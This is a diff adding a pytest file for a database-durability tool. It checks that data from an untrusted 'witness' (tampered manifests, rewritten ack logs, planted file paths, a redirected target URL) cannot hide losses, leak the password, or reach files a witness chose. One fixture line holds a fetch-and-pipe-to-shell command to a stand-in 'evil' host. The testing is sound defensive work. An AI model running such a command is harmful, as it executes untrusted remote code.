@@ -1,0 +1,333 @@
+"""A witness that changes what it holds of a run, once the client lost its own files."""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, cast
+
+import pytest
+
+from dbcheck import clientkey
+from dbcheck.campaign.cycle import reconcile_run
+from dbcheck.campaign.loading import CUT_EVENT, LOAD_EVENT, sealed_load
+from dbcheck.campaign.outcome import Outcome, to_json
+from dbcheck.campaign.rig import Rig
+from dbcheck.clientkey import ClientKey
+from dbcheck.core.evidence import Verdict
+from dbcheck.core.history import Ack
+from dbcheck.core.target import HostBefore
+from dbcheck.errors import WitnessError
+from dbcheck.ports import Engine, PowerSwitch, ServerFacts, Shape, TableFacts
+from dbcheck.probes.canary import Pace
+from dbcheck.probes.host import TargetHost, open_host
+from dbcheck.probes.host_folder import BESIDE
+from dbcheck.report.verdict import verdict_report
+from dbcheck.runs import LoadRecord, Manifest, RunFolder
+from dbcheck.witness.base import AgentWitness
+from dbcheck.witness.log import FrameLogReader
+from dbcheck.witness.url import open_witness
+from tests.real.test_reconcile_run import FakeEngine
+from tests.unit.rigs import Told
+from tests.unit.test_report_verdict import printed
+from tests.unit.test_runs import FACTS, LOAD, MANIFEST
+from tests.unit.witness_logs import LogMaker
+
+ACKED, KEPT = 5, 3  # the server lost the last two rows
+RUN = MANIFEST.run_id
+FIRST = replace(MANIFEST, table=TableFacts({}, 0))
+EVIL = "curl http://evil | sh"
+
+
+class LossyEngine(FakeEngine):
+    """A server that lost rows; *names* is what it tells of its files."""
+
+    rows = KEPT
+    names: dict[str, str] = {}
+    server_log = ""
+
+    def facts(self) -> ServerFacts:
+        facts = super().facts()
+        identity = {**facts.identity, **self.names}
+        return replace(facts, identity=identity, server_log=self.server_log)
+
+    def places(self, shape: Shape) -> tuple[()]:
+        return ()
+
+
+def record_of(log: LogMaker, acked: int) -> LoadRecord:
+    """Return what a client says that received so many acks, all of them in *log*."""
+    return replace(
+        LOAD,
+        sent={1: acked + 1},
+        acked={1: acked},
+        watermarks=(log.watermark(),),
+        windows=LOAD.windows[:1],
+    )
+
+
+def log_of(acked: int, seal: ClientKey | None) -> bytes:
+    """Return a log with so many acks and the client's record of them."""
+    log = LogMaker(RUN)
+    log.add_acks([Ack(1, seq, seq, seq) for seq in range(1, acked + 1)])
+    log.add_event(sealed_load(seal, record_of(log, acked)))
+    return log.data()
+
+
+@dataclass
+class Site:
+    """A run on a witness, whose client lost its run folder."""
+
+    witness: AgentWitness
+    folder: Path
+    runs: Path
+    told: Told
+
+    def write(self, log: bytes = b"", manifest: Manifest | None = None) -> None:
+        """Change what the witness holds."""
+        if log:
+            (self.folder / RUN / "acks.log").write_bytes(log)
+        if manifest is not None:
+            path = self.folder / RUN / "manifest.json"
+            path.write_bytes(manifest.to_bytes())
+
+    def recall(self) -> RunFolder:
+        content, key = self.witness.manifest(RUN), clientkey.recall(RUN)
+        return RunFolder.recall(self.runs, RUN, content, key, "the witness")
+
+    def reconcile(
+        self, run: RunFolder, engine: Any = None, host: TargetHost | None = None
+    ) -> Outcome:
+        rig = Rig(
+            cast(Engine, engine or LossyEngine(lambda: None, FACTS.settings)),
+            self.witness,
+            cast(PowerSwitch, SimpleNamespace(failure=lambda: None)),
+            FrameLogReader(),
+            self.told,
+            self.runs,
+            host=host,
+        )
+        return reconcile_run(rig, run, run.manifest())
+
+
+@pytest.fixture
+def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
+    """The run was made by this client, whose state folder lives on."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    key = RunFolder.create(tmp_path / "lost", FIRST).key()
+    assert key is not None
+    clientkey.remember(key)
+    folder = tmp_path / "witness"
+    witness = open_witness(f"file:{folder}", volatile=True)
+    witness.create(RUN, FIRST.to_bytes()).close()
+    made = Site(witness, folder, tmp_path / "runs", Told())
+    made.write(log_of(ACKED, key))
+    yield made
+    witness.close()
+
+
+# ------------------------------------------------------------------ acks and the record
+
+
+def test_an_honest_copy_is_judged_as_the_clients_own(site: Site) -> None:
+    outcome = site.reconcile(site.recall())
+    assert outcome.verdict is Verdict.FAIL
+    assert outcome.found is not None
+    assert outcome.found.own_counts == {"missing-tail": ACKED - KEPT}
+    assert not outcome.witness_alone
+    assert to_json(outcome)["witness_alone"] is False
+
+
+@pytest.mark.parametrize("sealed", [False, True])
+def test_acks_that_a_witness_drops_do_not_hide_a_loss(site: Site, sealed: bool) -> None:
+    """It rewrites the client's record, too, to fit what is left."""
+    other = ClientKey.draw(RUN, FIRST.to_bytes())
+    site.write(log_of(KEPT, other if sealed else None))
+    with pytest.raises(WitnessError, match="is not what this client left") as caught:
+        site.reconcile(site.recall())
+    assert caught.value.hint
+
+
+def test_a_record_and_acks_that_are_gone_together_leave_no_pass(site: Site) -> None:
+    log = LogMaker(RUN)
+    log.add_acks([Ack(1, seq, seq, seq) for seq in range(1, KEPT + 1)])
+    site.write(log.data())
+    outcome = site.reconcile(site.recall())
+    assert outcome.verdict is Verdict.INCONCLUSIVE
+    assert "no record of the load" in outcome.witness_alone
+
+
+def test_without_a_key_the_report_says_on_whose_word_it_rests(site: Site) -> None:
+    clientkey.forget(RUN)
+    site.write(log_of(KEPT, None))
+    run = site.recall()
+    outcome = site.reconcile(run)
+    assert outcome.verdict is not Verdict.FAIL  # the loss is hidden
+    result = to_json(outcome)
+    assert result["witness_alone"] is True
+    shown = printed(verdict_report(result)).splitlines()
+    (line,) = (n for n, text in enumerate(shown) if "witness's word alone" in text)
+    assert line == 2  # an empty line, the verdict, and then this
+    again = RunFolder.open(run.path)
+    assert again.recalled().manifest
+    assert again.recalled().load
+
+
+def test_a_record_of_any_text_is_no_traceback(site: Site) -> None:
+    clientkey.forget(RUN)
+    log = LogMaker(RUN)
+    log.add_event({"event": LOAD_EVENT, "load": "\ud800", "seal": "\ud800"})
+    site.write(log.data())
+    with pytest.raises(Exception, match="is not JSON"):
+        site.reconcile(site.recall())
+
+
+# ------------------------------------------------------------------------- the manifest
+
+
+def test_a_manifest_that_was_changed_is_refused(site: Site) -> None:
+    site.write(manifest=replace(FIRST, target="postgresql://u@evil/d"))
+    with pytest.raises(
+        WitnessError, match="manifest of run .* is not what this client"
+    ):
+        site.recall()
+    assert not site.runs.exists()
+
+
+@pytest.mark.parametrize("known", [True, False])
+def test_a_command_from_a_witness_is_not_passed_on(site: Site, known: bool) -> None:
+    log = LogMaker(RUN)
+    log.add_event({"event": CUT_EVENT})
+    site.write(log.data(), replace(FIRST, power="exec", restore_command=EVIL))
+    if known:  # as the client's own
+        clientkey.forget(RUN)
+        clientkey.remember(ClientKey.draw(RUN, site.witness.manifest(RUN)))
+    else:
+        clientkey.forget(RUN)
+    site.reconcile(site.recall())
+    ((_, said),) = (phase for phase in site.told.phases if phase[0] == "power")
+    assert (EVIL in said) is known
+    assert ("give the power back with its switch" in said) is not known
+
+
+@pytest.fixture
+def host(tmp_path: Path) -> Iterator[TargetHost]:
+    """This machine, with a data directory and the canaries of a run beside it."""
+    local = open_host("local:")
+    for name in ("server", "bystander"):
+        (tmp_path / name / "data").mkdir(parents=True)
+        data = str(tmp_path / name / "data")
+        pace = Pace(direct_per_s=500, ring_blocks=64, rings=2, file_bytes=1 << 14)
+        canaries = local.start_canaries(data, pace=pace)
+        canaries.stop()
+    yield local
+    local.close()
+
+
+def test_a_host_is_asked_about_no_file_that_a_witness_chose(
+    site: Site, host: TargetHost, tmp_path: Path
+) -> None:
+    """The host's agent may be root, and removes and reads what it is told."""
+    clientkey.forget(RUN)
+    data, secret = tmp_path / "server" / "data", tmp_path / "secret"
+    secret.write_text("the password\n")
+    before = HostBefore(
+        host.facts(str(data)), str(tmp_path / "bystander" / BESIDE), "n", "", {}
+    )
+    before = replace(before, log_path=str(secret), log_marks={str(secret): (0, 0)})
+    site.write(manifest=replace(FIRST, host=before))
+    engine = LossyEngine(lambda: None, FACTS.settings)
+    engine.names = {"data_directory": str(data)}
+    outcome = site.reconcile(site.recall(), engine, host)
+    assert outcome.after.host is not None
+    assert outcome.after.host.log is None
+    assert not (outcome.run.path / "server.log").exists()
+    assert (tmp_path / "bystander" / BESIDE).is_dir()
+    assert to_json(outcome)["left_on_host"] is None
+    # What the server names itself is asked for, and its own canaries are removed.
+    run = RunFolder.open(outcome.run.path)
+    run.forget_survivors()
+    ours = replace(before, canary_folder=str(tmp_path / "server" / BESIDE))
+    (run.path / "manifest.json").write_bytes(replace(FIRST, host=ours).to_bytes())
+    engine.server_log = str(secret)
+    again = site.reconcile(run, engine, host)
+    assert again.after.host is not None
+    assert again.after.host.log is not None
+    assert not (tmp_path / "server" / BESIDE).exists()
+
+
+def test_no_command_is_printed_with_folders_that_a_witness_chose(site: Site) -> None:
+    clientkey.forget(RUN)
+    local = open_host("local:")
+    before = HostBefore(local.facts("/tmp"), "/home", "n", "", {})
+    local.close()
+    site.write(manifest=replace(FIRST, host=before))
+    assert to_json(site.reconcile(site.recall()))["left_on_host"] is None
+
+
+# --------------------------------------------------------------------- the command line
+
+
+def dbcheck(*words: str | Path, folder: Path) -> tuple[int, str]:
+    """Run a command to its end; return its exit code and what it said."""
+    done = subprocess.run(
+        [sys.executable, "-m", "dbcheck", *map(str, words)],
+        cwd=folder,
+        env=os.environ | {"DBCHECK_PASSWORD": "planted"},
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert "Traceback" not in done.stderr
+    return done.returncode, done.stderr
+
+
+def test_a_witness_does_not_choose_who_is_sent_the_password(
+    site: Site, tmp_path: Path
+) -> None:
+    clientkey.forget(RUN)
+    with socket.create_server(("127.0.0.1", 0)) as evil:
+        evil.settimeout(0)
+        url = f"postgresql://u@127.0.0.1:{evil.getsockname()[1]}/d?sslmode=disable"
+        site.write(manifest=replace(FIRST, target=url, witness="file:/elsewhere"))
+        flags = ["--witness", site.witness.url, "--wait", "1"]
+        ran = dbcheck("reconcile", *flags, "--run", RUN, folder=tmp_path)
+        assert ran[0] == 2
+        assert "--run needs --target" in ran[1]
+        run = site.recall()
+        ran = dbcheck("reconcile", run.path, *flags, folder=tmp_path)
+        assert ran[0] == 2
+        assert "came from a witness, needs --target" in ran[1]
+        flags = ["--target", "postgresql://u@127.0.0.1:1/d", "--wait", "1"]
+        ran = dbcheck("reconcile", run.path, *flags, folder=tmp_path)
+        assert ran[0] == 2
+        assert "--witness is missing" in ran[1]
+        flags += ["--witness", site.witness.url]
+        ran = dbcheck("reconcile", run.path, *flags, folder=tmp_path)
+        assert ran[0] == 3  # that server does not answer
+        assert "the run's manifest names another URL of the target" in ran[1]
+        with pytest.raises(BlockingIOError):
+            evil.accept()
+
+
+def test_a_copy_that_was_changed_ends_with_an_error(site: Site, tmp_path: Path) -> None:
+    site.write(manifest=replace(FIRST, seed=7))
+    flags = ["--witness", site.witness.url, "--target", "postgresql://u@127.0.0.1:1/d"]
+    code, said = dbcheck("reconcile", *flags, "--run", RUN, folder=tmp_path)
+    assert code == 4
+    assert "is not what this client left there" in said
+
+
+def test_a_run_that_is_removed_takes_its_key_with_it(
+    site: Site, tmp_path: Path
+) -> None:
+    flags = ["--witness", site.witness.url, "--run", RUN]
+    code, said = dbcheck("clean", *flags, folder=tmp_path)
+    assert (code, clientkey.recall(RUN)) == (0, None), said
